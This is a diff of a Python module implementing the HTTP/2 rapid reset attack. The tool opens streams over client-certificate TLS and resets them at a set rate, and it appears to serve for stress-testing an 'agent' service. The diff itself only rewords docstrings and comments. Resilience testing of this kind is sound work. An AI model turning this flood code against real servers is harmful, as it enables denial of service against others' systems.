@@ -1,4 +1,4 @@
-"""A peer that opens streams and resets them at once, as many as it can: HTTP/2 by hand, over its own TLS."""
+"""HTTP/2 rapid reset attack: a peer that opens streams and resets them at once, over its own TLS."""
 
 import socket
 import ssl
@@ -16,7 +16,7 @@ def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
 
 
 def _literal(name: bytes, value: bytes) -> bytes:
-    """A header field of HPACK as it is, neither indexed nor compressed."""
+    """Encode an HPACK header field as a literal, neither indexed nor compressed."""
     return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value
 
 
@@ -34,7 +34,7 @@ _REQUEST = b"".join(
 
 
 def rapid_reset(address: str, certs: Path, per_s: int, seconds: float) -> int:
-    """Reset `per_s` streams a second for so long, with a device's certificate; give how many were."""
+    """Reset `per_s` streams a second with a device's certificate, and return how many were reset."""
     context = ssl.create_default_context(cafile=str(certs / "ca.pem"))
     context.check_hostname = False
     context.load_cert_chain(certs / "device.pem", certs / "device.key")
@@ -43,7 +43,7 @@ def rapid_reset(address: str, certs: Path, per_s: int, seconds: float) -> int:
     while time.monotonic() - began < seconds:
         try:
             done += _connection(context, address, per_s, began, seconds, done)
-        except OSError:  # the agent has had enough of this connection
+        except OSError:  # the agent closed this connection
             time.sleep(0.01)
     return done
 
@@ -82,7 +82,7 @@ def _connection(
 
 
 def _answered(connection: ssl.SSLSocket, unread: bytes) -> bytes:
-    """Answer settings and pings, as a peer must that wants to stay; give what is no whole frame yet."""
+    """Answer settings and pings, as a valid peer must, and return the bytes of the incomplete frame."""
     while len(unread) >= 9:
         size, kind, flags = int.from_bytes(unread[:3], "big"), unread[3], unread[4]
         if len(unread) < 9 + size:
